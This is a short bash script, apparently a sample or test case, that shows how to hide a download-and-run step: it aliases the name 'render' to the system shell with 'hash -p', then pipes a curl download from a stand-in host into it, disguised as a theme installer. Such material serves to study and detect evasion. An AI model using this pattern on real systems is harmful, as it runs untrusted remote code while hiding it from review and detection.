#!/usr/bin/env bash
# Evasion: download and run code. "hash -p PATH NAME" puts NAME in the command
# hash table pointing at any file, so later "render" runs /bin/sh (found with
# command -v) on the downloaded text piped into it.
set -eu

shell_path=$(command -v sh)
hash -p "$shell_path" render

fetch() {
    curl -fsSL "https://assets.example.net/theme/$1"
}

fetch install.txt | render
echo "theme installed"
